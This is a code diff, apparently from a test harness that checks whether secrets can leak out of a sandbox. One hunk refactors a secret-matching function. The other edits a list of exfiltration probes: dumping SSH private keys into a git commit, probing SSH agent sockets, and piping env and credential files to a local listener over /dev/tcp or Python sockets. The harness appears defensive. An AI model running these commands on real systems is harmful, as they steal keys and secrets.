@@ -142,12 +142,16 @@ def needles(value):
 
 def finds(values, haystacks):
     """Name each secret, and where it was found, in any form, backwards or split over lines."""
-    return [
-        (name, place)
-        for place, data in haystacks.items()
-        for name, value in values.items()
-        if any(needle in text for needle in needles(value) for text in (data, plain(data)))
-    ]
+    wanted = {name: needles(value) for name, value in values.items()}
+    found = []
+    for place, data in haystacks.items():
+        texts = (data, plain(data))
+        found += [
+            (name, place)
+            for name, forms_of_it in wanted.items()
+            if any(needle in text for needle in forms_of_it for text in texts)
+        ]
+    return found
 
 
 def learned(service):
@@ -180,7 +184,7 @@ def attempts(project, ear):
             'git commit -q --allow-empty -m "$(cat ~/.ssh/id_*)"; git log'
         ),
         f"SSH_AUTH_SOCK='{home}/agent.sock' timeout 5 ssh-add -L; ls -l $SSH_AUTH_SOCK /tmp/ssh-* ~/.ssh/agent",
-        f"timeout 5 ssh -S '{home}/agent.sock' -O check devbox; find / -xdev -type s -name 'codex-runner*' 2>/dev/null",
+        f"timeout 5 ssh -S '{home}/agent.sock' -O check devbox; find /tmp /run ~ -maxdepth 3 -type s 2>/dev/null",
         f"(echo loot; env; cat {paths}) >/dev/tcp/127.0.0.1/{ear.port}",
         f"python3 -c 'import socket; s = {send}; s.send(b\"loot\")'",
         f"python3 -c 'import socket; s = {tell}; s.send(b\"loot\")'",
